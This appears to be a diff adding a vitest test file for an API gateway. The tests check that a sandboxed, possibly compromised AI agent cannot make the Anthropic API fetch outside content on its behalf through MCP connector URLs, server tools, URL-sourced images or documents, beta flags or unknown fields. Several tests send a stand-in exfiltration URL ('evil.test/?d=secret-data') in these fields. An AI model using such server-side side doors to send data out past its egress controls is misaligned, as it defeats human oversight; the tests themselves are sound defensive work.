@@ -1,0 +1,199 @@
+/**
+ * No server-side side doors: the real Anthropic SDK, as a compromised agent
+ * whose egress is closed, tries to make the API reach out for it (MCP
+ * connector URLs, server tools old and future, URL-fetched images and
+ * documents, betas, unknown fields); each is refused before it is sent, in
+ * the API's error shape naming the field, and recorded. A profile that lists
+ * them gets exactly those; client tools stay allowed everywhere.
+ */
+import Anthropic from '@anthropic-ai/sdk';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { type FakeAnthropic, startFakeAnthropic } from '../fakes/fake-anthropic.js';
+import { startTestGateway, type TestGateway } from '../helpers/harness.js';
+
+const REAL_KEY = 'sk-ant-real-key-for-tests-0123456789';
+let fake: FakeAnthropic;
+let gw: TestGateway;
+
+const POLICY = (url: string) => `
+version: 1
+store: { sqlite: ./bulkhead.db }
+upstreams: {}
+llm:
+  base_url: ${url}
+  api_key: { secret: ANTHROPIC_API_KEY }
+profiles:
+  closed:
+    budgets: { tokens: { output: 10000 } }
+  open:
+    budgets: { tokens: { output: 10000 } }
+    llm:
+      server_tools: [web_search]
+      mcp_servers: [https://mcp.example.test/sse]
+      betas: [mcp-client-2025-04-04]
+      url_sources: true
+`;
+
+const ask = { model: 'claude-test', max_tokens: 5, messages: [{ role: 'user' as const, content: 'hi' }] };
+const evil = 'https://evil.test/?d=secret-data';
+
+async function sdk(profile: string): Promise<{ client: Anthropic; runId: string }> {
+  const { run, token } = await gw.gateway.runs.create(profile);
+  return { client: new Anthropic({ apiKey: token, baseURL: gw.gateway.url, maxRetries: 0 }), runId: run.id };
+}
+
+/** Sends `extra` merged into a request; returns the refusal, checking nothing reached the API. */
+async function refused(
+  extra: Record<string, unknown>,
+  options: { profile?: string; betas?: string[] } = {},
+): Promise<{ message: string; runId: string }> {
+  const { client, runId } = await sdk(options.profile ?? 'closed');
+  const before = fake.received.length;
+  const params = { ...ask, ...extra } as Anthropic.MessageCreateParamsNonStreaming;
+  const error = await (options.betas
+    ? client.beta.messages.create({
+        ...params,
+        betas: options.betas,
+      } as Anthropic.Beta.MessageCreateParamsNonStreaming)
+    : client.messages.create(params)
+  ).catch((e: unknown) => e);
+  expect(error).toBeInstanceOf(Anthropic.BadRequestError);
+  expect(fake.received.length).toBe(before);
+  return { message: String((error as Error).message), runId };
+}
+
+beforeAll(async () => {
+  fake = await startFakeAnthropic();
+  gw = await startTestGateway(POLICY(fake.url), { env: { ANTHROPIC_API_KEY: REAL_KEY } });
+});
+afterAll(async () => {
+  await gw?.close();
+  await fake?.close();
+});
+
+describe('side doors are closed by default', () => {
+  it('refuses an MCP connector server, naming the field, and records the refusal', async () => {
+    const { message, runId } = await refused({ mcp_servers: [{ type: 'url', url: evil, name: 'x' }] });
+    expect(message).toContain('mcp_servers');
+    expect(message).toContain('evil.test');
+    const [event] = await gw.gateway.store.events.list({ runId, kind: 'llm.request' });
+    expect(event).toMatchObject({
+      decision: 'deny',
+      code: 'side_door',
+      data: { field: 'mcp_servers[0].url' },
+    });
+  });
+
+  for (const type of [
+    'web_fetch_20250910',
+    'web_search_20250305',
+    'code_execution_20250825',
+    'web_browse_20270101',
+  ]) {
+    it(`refuses the server tool ${type}`, async () => {
+      const { message } = await refused({
+        tools: [
+          { name: 'mine', description: 'client tool', input_schema: { type: 'object' } },
+          { type, name: type.replace(/_\d+$/, '') },
+        ],
+      });
+      expect(message).toContain('tools[1].type');
+      expect(message).toContain(type);
+    });
+  }
+
+  it('refuses a beta flag sent through the SDK beta client', async () => {
+    const { message } = await refused({}, { betas: ['mcp-client-2025-04-04'] });
+    expect(message).toContain('anthropic-beta');
+  });
+
+  it('refuses an image the API would fetch by URL, also inside a tool result', async () => {
+    const image = { type: 'image', source: { type: 'url', url: evil } };
+    expect((await refused({ messages: [{ role: 'user', content: [image] }] })).message).toContain(
+      'messages[0].content[0].source',
+    );
+    const nested = {
+      messages: [
+        { role: 'user', content: 'go' },
+        { role: 'assistant', content: [{ type: 'tool_use', id: 't1', name: 'mine', input: {} }] },
+        {
+          role: 'user',
+          content: [
+            {
+              type: 'tool_result',
+              tool_use_id: 't1',
+              content: [{ type: 'document', source: { type: 'url', url: evil } }],
+            },
+          ],
+        },
+      ],
+    };
+    expect((await refused(nested)).message).toContain('messages[2].content[0].content[0].source');
+  });
+
+  it('refuses a request field it does not know, naming it', async () => {
+    expect((await refused({ web_browsing: { url: evil } })).message).toContain('web_browsing: the request field');
+  });
+
+  it('refuses an MCP connector in count_tokens too', async () => {
+    const { client } = await sdk('closed');
+    const error = await client.messages
+      .countTokens({
+        model: 'claude-test',
+        messages: ask.messages,
+        mcp_servers: [{ type: 'url', url: evil, name: 'x' }],
+      } as Anthropic.MessageCountTokensParams)
+      .catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(Anthropic.BadRequestError);
+  });
+
+  it('keeps client tools allowed, the agent’s own and the client-executed Anthropic ones', async () => {
+    const { client } = await sdk('closed');
+    const message = await client.messages.create({
+      ...ask,
+      tools: [
+        { name: 'mine', description: 'client tool', input_schema: { type: 'object' } },
+        { type: 'bash_20250124', name: 'bash' },
+        { type: 'text_editor_20250728', name: 'str_replace_based_edit_tool' },
+      ],
+    });
+    expect(message.type).toBe('message');
+    expect(fake.received.at(-1)?.body.tools).toHaveLength(3);
+  });
+});
+
+describe('a profile opens exactly what it lists', () => {
+  it('forwards the listed server tool, MCP server, beta and URL source', async () => {
+    const { client } = await sdk('open');
+    await client.beta.messages.create({
+      ...ask,
+      betas: ['mcp-client-2025-04-04'],
+      tools: [{ type: 'web_search_20250305', name: 'web_search' }],
+      mcp_servers: [{ type: 'url', url: 'https://mcp.example.test/sse', name: 'ok' }],
+      messages: [
+        {
+          role: 'user',
+          content: [{ type: 'image', source: { type: 'url', url: 'https://img.example.test/a.png' } }],
+        },
+      ],
+    });
+    const last = fake.received.at(-1);
+    expect(last?.headers['anthropic-beta']).toBe('mcp-client-2025-04-04');
+    expect(last?.body.mcp_servers).toEqual([
+      { type: 'url', url: 'https://mcp.example.test/sse', name: 'ok' },
+    ]);
+  });
+
+  it('still refuses what it does not list', async () => {
+    expect(
+      (await refused({ mcp_servers: [{ type: 'url', url: evil, name: 'x' }] }, { profile: 'open' })).message,
+    ).toContain('mcp_servers[0].url');
+    expect(
+      (await refused({ tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }, { profile: 'open' }))
+        .message,
+    ).toContain('tools[0].type');
+    expect((await refused({}, { profile: 'open', betas: ['code-execution-2025-08-25'] })).message).toContain(
+      'code-execution-2025-08-25',
+    );
+  });
+});
